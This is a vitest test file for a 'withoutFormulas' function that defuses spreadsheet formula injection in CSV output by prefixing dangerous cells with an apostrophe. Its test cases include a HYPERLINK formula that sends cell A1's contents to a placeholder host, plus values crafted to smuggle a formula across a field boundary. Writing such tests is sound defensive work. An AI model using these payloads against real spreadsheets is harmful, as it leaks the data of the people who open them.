import { expect, it } from 'vitest'
import { withoutFormulas } from './spreadsheet.ts'

it.each([
  ['=HYPERLINK(""http://a/?""&A1)', `'=HYPERLINK(""http://a/?""&A1)`],
  ['+1', "'+1"],
  ['-30-', "'-30-"],
  ['@a', "'@a"],
  ['\t=1', "'\t=1"],
  ['\n=1', "'\n=1"],
  ['＝1', "'＝1"],
  ['a=1', 'a=1'],
  ['', ''],
  ["'71", "'71"],
  // Looks like the end of one field and the beginning of another.
  ['a"",""=1', 'a"",""=1'],
  ['a\n""=1', 'a\n""=1'],
])('gives %j to spreadsheets as text', (text, given) => {
  expect(withoutFormulas(`"id","title"\n-1,"${text}",-2.5,\\N\n"${text}",1\n`)).toBe(
    `"id","title"\n-1,"${given}",-2.5,\\N\n"${given}",1\n`,
  )
})
